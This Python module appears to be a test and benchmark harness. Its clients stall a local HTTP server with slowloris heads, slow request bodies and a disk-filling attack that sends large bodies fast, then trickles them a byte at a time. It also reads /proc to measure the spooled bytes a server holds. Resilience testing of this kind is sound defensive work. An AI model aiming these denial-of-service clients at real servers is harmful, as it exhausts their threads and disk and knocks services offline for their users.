"""Slow and stalled HTTP clients, for the tests and bench/hostile.py: slowloris and slow bodies on 127.0.0.1.

``Attack`` keeps ``slowloris`` connections sending a request head one byte at a time and
``slow_bodies`` connections sending a body one byte at a time (after a whole head announcing
``Content-Length: 60000``), one byte per connection every ``interval`` seconds. None carries
credentials. A connection the server closes is replaced at once when ``replace`` is set (as a
real attacker would), and how long the server kept each one is recorded.

``DiskFill`` is the attack on the disk instead of the threads: bodies sent fast, then trickled a byte at a
time to keep their spooled bytes held; ``spooled_bytes`` measures, from outside, what a process holds so.
"""

from __future__ import annotations

import os
import selectors
import socket
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

SLOWLORIS_HEAD = b"GET /v1/jobs HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slow\r\n" + b"X-Padding: " + b"a" * 4000
BODY_LENGTH = 60000
# Shaped like an app key but no key's: refused before its body, as a request with no token is (the server
# reads the key's record once the head is in).
FORGED_KEY = "fhk_0123456789abcdef_" + "A" * 43
# Unauthenticated routes whose bodies the server waits for: the static callback URL, the dashboard's sign-in
# form (the API's need credentials before a body, forged ones are refused at once).
SLOW_BODY_TARGETS = ("/webhooks/bfl", "/signin")
# A disk fill's: the sign-in form and /healthz (a GET with a body: the server holds any request's body it waits
# for).
DISK_FILL_TARGETS = ("/signin", "/healthz")
MIB = 1024 * 1024


def slow_body_head(path: str, length: int = BODY_LENGTH, headers: str = "") -> bytes:
    """The head of a POST to ``path`` announcing a body of ``length`` bytes; ``headers``: more header lines."""
    content_type = "application/x-www-form-urlencoded" if path == "/signin" else "application/json"
    return (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: {content_type}\r\n{headers}"
            f"Content-Length: {length}\r\n\r\n").encode()


def attack_head(path: str, length: int = BODY_LENGTH) -> bytes:
    """A slow body's head for ``path`` (one of SLOW_BODY_TARGETS or DISK_FILL_TARGETS; under /v1/ with the forged
    key)."""
    head = slow_body_head(path, length, headers=f"Authorization: Bearer {FORGED_KEY}\r\n" if path.startswith("/v1/") else "")
    return head.replace(b"POST /healthz ", b"GET /healthz ")


def spooled_bytes(pid: int, directory: Path) -> int:
    """The bytes of the files under ``directory`` that process ``pid`` holds open (deleted ones included, as
    request spools are): read from /proc, so from outside the process."""
    total = 0
    prefix = str(directory).rstrip("/") + "/"
    try:
        descriptors = list(Path(f"/proc/{pid}/fd").iterdir())
    except OSError:
        return 0  # gone
    for fd in descriptors:
        try:
            if os.readlink(fd).startswith(prefix):
                total += os.stat(fd).st_size  # the open file itself, even unlinked
        except OSError:
            pass  # closed meanwhile
    return total


@dataclass
class Hostile:
    """One attacking connection: what it still has to send, and when it opened and closed."""

    sock: socket.socket
    kind: str
    pending: bytes
    opened: float = field(default_factory=time.monotonic)
    closed: float | None = None
    answer: bytes = b""

    @property
    def kept(self) -> float:
        return (self.closed or time.monotonic()) - self.opened


class Attack:
    """Keeps hostile connections open against ``host:port`` until ``stop()`` (or ``limit`` seconds)."""

    def __init__(self, port: int, *, slowloris: int = 0, slow_bodies: int = 0, interval: float = 1.0,
                 replace: bool = True, limit: float = 120.0, host: str = "127.0.0.1"):
        self.address = (host, port)
        self.slowloris, self.slow_bodies = slowloris, slow_bodies
        self.interval, self.replace, self.limit = interval, replace, limit
        self.open: list[Hostile] = []
        self.closed: list[Hostile] = []
        self.opened_count = 0
        self._selector = selectors.DefaultSelector()
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None
        self._lock = threading.Lock()

    # -- life cycle

    def start(self) -> "Attack":
        for _ in range(self.slowloris):
            self._connect("slowloris", SLOWLORIS_HEAD)
        for n in range(self.slow_bodies):
            self._connect("slow_body", attack_head(SLOW_BODY_TARGETS[n % len(SLOW_BODY_TARGETS)]))
        self._thread = threading.Thread(target=self._run, name="attack", daemon=True)
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        if self._thread:
            self._thread.join(timeout=10)
        with self._lock:
            for hostile in self.open:
                hostile.sock.close()
            self.open = []
        self._selector.close()

    def __enter__(self) -> "Attack":
        return self.start()

    def __exit__(self, *exc) -> None:
        self.stop()

    # -- figures

    def longest_kept(self) -> tuple[float, bool]:
        """The longest any connection was kept, and whether that one was still open (held to the end)."""
        with self._lock:
            everyone = self.closed + self.open
            if not everyone:
                return 0.0, False
            longest = max(everyone, key=lambda h: h.kept)
            return longest.kept, longest.closed is None

    def closed_by_server(self) -> list[Hostile]:
        with self._lock:
            return list(self.closed)

    # -- the work

    def _connect(self, kind: str, head: bytes) -> None:
        sock = socket.create_connection(self.address, timeout=5)
        sock.setblocking(False)
        whole = head if kind == "slowloris" else head + b"x" * BODY_LENGTH
        # The head goes at once for a slow body (all but its body); a slowloris starts with its first line.
        first = len(head) if kind == "slow_body" else head.index(b"\n") + 1
        sock.send(whole[:first])
        hostile = Hostile(sock, kind, whole[first:])
        with self._lock:
            self.open.append(hostile)
            self.opened_count += 1
        self._selector.register(sock, selectors.EVENT_READ, hostile)

    def _run(self) -> None:
        started = time.monotonic()
        next_drip = started + self.interval
        while not self._stop.is_set() and time.monotonic() - started < self.limit:
            for key, _ in self._selector.select(timeout=min(0.05, max(0.0, next_drip - time.monotonic()))):
                self._readable(key.data)
            if time.monotonic() >= next_drip:
                next_drip += self.interval
                with self._lock:
                    dripping = list(self.open)
                for hostile in dripping:
                    if hostile.pending:
                        try:
                            hostile.sock.send(hostile.pending[:1])
                            hostile.pending = hostile.pending[1:]
                        except OSError:
                            self._closed(hostile)

    def _readable(self, hostile: Hostile) -> None:
        try:
            data = hostile.sock.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if data:
            hostile.answer += data
            return
        self._closed(hostile)

    def _closed(self, hostile: Hostile) -> None:
        if hostile.closed is not None:
            return
        hostile.closed = time.monotonic()
        try:
            self._selector.unregister(hostile.sock)
        except (KeyError, ValueError):
            pass
        hostile.sock.close()
        with self._lock:
            self.open.remove(hostile)
            self.closed.append(hostile)
        if self.replace and not self._stop.is_set():
            if hostile.kind == "slowloris":
                self._connect("slowloris", SLOWLORIS_HEAD)
            else:
                target = SLOW_BODY_TARGETS[self.opened_count % len(SLOW_BODY_TARGETS)]
                self._connect("slow_body", attack_head(target))


@dataclass
class Trickle:
    """One disk-filling connection: when it opened, when its fast part was sent, when it closed, what it was told."""

    path: str
    opened: float = field(default_factory=time.monotonic)
    filled: float | None = None
    closed: float | None = None
    answer: bytes = b""

    @property
    def status(self) -> int | None:
        parts = self.answer.split(b" ", 2)
        return int(parts[1]) if len(parts) > 2 and parts[1].isdigit() else None

    @property
    def held(self) -> float:
        """How long the server kept it after its fast part (0 if it never got that far)."""
        return 0.0 if self.filled is None else (self.closed or time.monotonic()) - self.filled


class DiskFill:
    """``connections`` clients, each sending ``fast`` bytes of a body announced as ``length`` at once, then one
    byte every ``interval`` seconds (never below any pause limit, far below any rate), to hold what the server
    spooled. A connection the server closes is opened again after ``pause`` seconds when ``replace`` is set.
    Targets: DISK_FILL_TARGETS in turn, none with credentials. One thread per connection, until ``stop()``.
    """

    def __init__(self, port: int, *, connections: int = 20, fast: int = 200 * MIB, length: int = 256 * MIB,
                 interval: float = 8.0, replace: bool = True, pause: float = 1.0, limit: float = 120.0,
                 targets: tuple[str, ...] = DISK_FILL_TARGETS, host: str = "127.0.0.1"):
        self.address = (host, port)
        self.connections, self.fast, self.length = connections, fast, length
        self.interval, self.replace, self.pause, self.limit = interval, replace, pause, limit
        self.targets = targets
        self.lives: list[Trickle] = []
        self._stop = threading.Event()
        self._threads: list[threading.Thread] = []
        self._lock = threading.Lock()

    def start(self) -> "DiskFill":
        for n in range(self.connections):
            thread = threading.Thread(target=self._run, args=(self.targets[n % len(self.targets)],),
                                      name=f"disk-fill-{n}", daemon=True)
            thread.start()
            self._threads.append(thread)
        return self

    def stop(self) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join(timeout=self.interval + 15)

    def __enter__(self) -> "DiskFill":
        return self.start()

    def __exit__(self, *exc) -> None:
        self.stop()

    def all_lives(self) -> list[Trickle]:
        with self._lock:
            return list(self.lives)

    def _run(self, path: str) -> None:
        started = time.monotonic()
        piece = b"x" * MIB
        while not self._stop.is_set() and time.monotonic() - started < self.limit:
            life = Trickle(path)
            with self._lock:
                self.lives.append(life)
            try:
                with socket.create_connection(self.address, timeout=30) as sock:
                    try:
                        sock.sendall(attack_head(path, self.length))
                        for at in range(0, self.fast, MIB):
                            sock.sendall(piece[:min(MIB, self.fast - at)])
                        life.filled = time.monotonic()
                        self._trickle(sock, life, started)
                    except OSError:  # refused mid-body: the answer may still be there to read
                        sock.settimeout(0.5)
                        life.answer += sock.recv(65536)
            except OSError:
                pass  # reset
            life.closed = time.monotonic()
            if not self.replace:
                return
            self._stop.wait(self.pause)

    def _trickle(self, sock: socket.socket, life: Trickle, started: float) -> None:
        """A byte every ``interval`` until the server answers and closes (or the attack ends)."""
        sock.settimeout(self.interval)
        while not self._stop.is_set() and time.monotonic() - started < self.limit:
            try:
                data = sock.recv(65536)
            except TimeoutError:
                sock.send(b"x")
                continue
            if not data:
                return
            life.answer += data
